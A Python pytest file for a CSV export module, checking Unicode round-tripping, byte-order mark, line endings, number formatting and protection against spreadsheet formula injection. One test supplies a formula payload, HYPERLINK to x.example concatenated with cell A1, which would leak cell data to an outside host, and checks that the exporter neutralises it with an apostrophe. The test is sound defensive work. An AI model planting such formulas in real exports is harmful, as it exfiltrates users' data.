"""CSV, read back by the standard library."""

import pytest

from api.exporting.csv_table import CsvTable, guarded
from tests.api.exporting.made_up import COLUMNS, HEADING, ID, NOTHING, Scratch, row
from tests.api.exporting.readers import read_csv


def test_rows_are_read_as_they_were_written() -> None:
    scratch = Scratch()
    table = CsvTable(scratch.sink, HEADING)
    table.write([row('第一行\n第二行, "引号"'), NOTHING])
    table.write([])
    table.write([row()])
    table.finish()
    assert scratch.content.startswith(b"\xef\xbb\xbfid,version,name")
    assert scratch.content.endswith(b"\r\n")
    read = read_csv(scratch.content)
    assert read.columns == [column.name for column in COLUMNS]
    assert read.column("name") == ['第一行\n第二行, "引号"', "", "便条"]
    assert read.rows[2] == (
        ID, "3", "便条", "red", "good", "120000.50", "0.25", "true", "王五", "2026-02-28",
        "2026-03-01T12:30:15Z", '["一","二"]', "{}", "1",
    )  # fmt: skip
    assert read.rows[1] == (ID, "0", "", "", "good", "", "", "false", "", "", "", "", "", "")


@pytest.mark.parametrize("first", list("=+-@＝＋－＠\t\r\n"))
def test_what_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(first: str) -> None:
    text = f'{first}HYPERLINK("http://x.example/?"&A1)'
    assert guarded(text) == f"'{text}"
    scratch = Scratch()
    CsvTable(scratch.sink, HEADING).write([row(text)])
    assert read_csv(scratch.content).column("name") == [f"'{text}"]


def test_spaces_before_a_formula_hide_nothing() -> None:
    assert guarded(" \u3000=1+1") == "' \u3000=1+1"


@pytest.mark.parametrize("text", ["张三", "3-2-501", "a=b", "'quoted", "", " 便条", "{}", "1+1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


def test_numbers_are_numbers() -> None:
    scratch = Scratch()
    CsvTable(scratch.sink, HEADING).write([row(version=-5, share=-0.5)])
    read = read_csv(scratch.content)
    assert read.column("version") == ["-5"]
    assert read.column("share") == ["-0.5"]
